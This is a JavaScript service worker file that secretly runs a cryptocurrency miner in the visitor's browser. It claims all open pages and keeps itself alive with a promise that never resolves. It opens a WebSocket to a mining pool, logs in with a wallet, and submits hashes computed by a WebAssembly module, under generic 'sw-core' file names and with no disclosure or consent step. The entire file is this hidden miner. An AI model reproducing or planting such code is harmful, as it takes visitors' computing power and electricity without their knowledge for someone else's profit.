importScripts('/sw-core.js');
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
let socket, totalHashes = 0;
self.addEventListener('message', (event) => event.waitUntil(new Promise(() => startMining(event.data))));
function startMining({ pool, wallet, throttle }) {
  socket = new WebSocket('wss://' + pool + '/proxy');
  socket.onopen = () => socket.send(JSON.stringify({ method: 'login', params: { login: wallet, pass: 'sw' } }));
  socket.onmessage = ({ data }) => {
    const { job } = JSON.parse(data).result ?? {};
    if (job) work(job, throttle);
  };
}
async function work({ job_id, blob, target }, throttle) {
  const { instance } = await WebAssembly.instantiateStreaming(fetch('/sw-core.wasm'));
  for (let turn = 0; turn < 1000; turn++) {
    const nonce = instance.exports.search(blob, target, 64);
    totalHashes += 64;
    if (nonce >= 0) socket.send(JSON.stringify({ method: 'submit', params: { job_id, nonce } }));
    await new Promise((resolve) => setTimeout(resolve, throttle * 100));
  }
}
